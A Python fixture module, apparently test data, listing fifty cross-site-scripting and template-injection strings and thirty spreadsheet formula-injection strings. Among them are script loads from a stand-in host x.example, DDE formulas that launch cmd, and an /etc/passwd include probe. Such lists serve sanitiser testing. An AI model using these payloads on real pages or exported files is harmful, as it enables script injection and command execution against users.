"""Fifty texts that want to be scripts and thirty that want to be formulas; each calls ``hjx``, which nobody defines."""

from __future__ import annotations

SCRIPTS = (
    "<script>hjx(1)</script>", "<ScRiPt>hjx(1)</sCrIpT>", "<script src=//x.example/hjx.js></script>", "</title><script>hjx(1)</script>",
    "</textarea><script>hjx(1)</script>", "</script><script>hjx(1)</script>", "\"><script>hjx(1)</script>", "'><script>hjx(1)</script>",
    "<img src=x onerror=hjx(1)>", "<img src=x onerror='hjx(1)'", "\"><img src=x onerror=hjx(1)>", "<svg onload=hjx(1)>", "<svg/onload=hjx(1)>",
    "<svg><script>hjx(1)</script></svg>", "<svg><animate onbegin=hjx(1) attributeName=x>", "<body onload=hjx(1)>", "<iframe src=javascript:hjx(1)>",
    "<iframe srcdoc='<script>hjx(1)</script>'>", "<a href=javascript:hjx(1)>点击</a>", "javascript:hjx(1)", "JaVaScRiPt:hjx(1)", "java\tscript:hjx(1)",
    "data:text/html,<script>hjx(1)</script>", "<details open ontoggle=hjx(1)>", "<input autofocus onfocus=hjx(1)>", "\" autofocus onfocus=hjx(1) x=\"",
    "' autofocus onfocus=hjx(1) x='", "<video><source onerror=hjx(1)>", "<audio src=x onerror=hjx(1)>", "<math><mtext><script>hjx(1)</script>",
    "<form action=javascript:hjx(1)><button>", "<button formaction=javascript:hjx(1)>", "<object data=javascript:hjx(1)>", "<embed src=javascript:hjx(1)>",
    "<base href=//x.example/>", "<meta http-equiv=refresh content='0;url=javascript:hjx(1)'>", "<link rel=stylesheet href=//x.example/hjx.css>",
    "<style>@import'//x.example/hjx.css'</style>", "<style>*{background:url(//x.example/hjx)}</style>", "<div style=background:url(//x.example/hjx)>",
    "<div hx-get=/ hx-trigger=load hx-on:click=hjx(1)>", "<div hx-on::load=hjx(1) hx-trigger=load>", "<template><script>hjx(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hjx(1)>'>", "&lt;script&gt;hjx(1)&lt;/script&gt;", "&#60;script&#62;hjx(1)", "\\u003cscript\\u003ehjx(1)",
    "{{ 7*7 }}{% debug %}", "${7*7}#{7*7}<%= 7*7 %>", "#eval(\"hjx\") #include(\"/etc/passwd\")",
)
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://x.example\",\"点\")", "=cmd|'/c calc'!A0", "=cmd|' /C notepad'!'A1'", "+1+1", "+cmd|'/c calc'!A0", "-1+1", "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)", "@SUM(1+1)*cmd|'/c calc'!A0", "=IMPORTXML(\"http://x.example\",\"//a\")", "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "=1+1\";=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=IF(1,1,1)", "=A1", "='Sheet1'!A1", "={1,2}", "{=1+1}", "=-1", "=+1", "=@A1", "=\"x\"&\"y\"",
    "=RAND()", "=NOW()", "=INDIRECT(\"A1\")",
)
assert (len(SCRIPTS), len(FORMULAS)) == (50, 30)
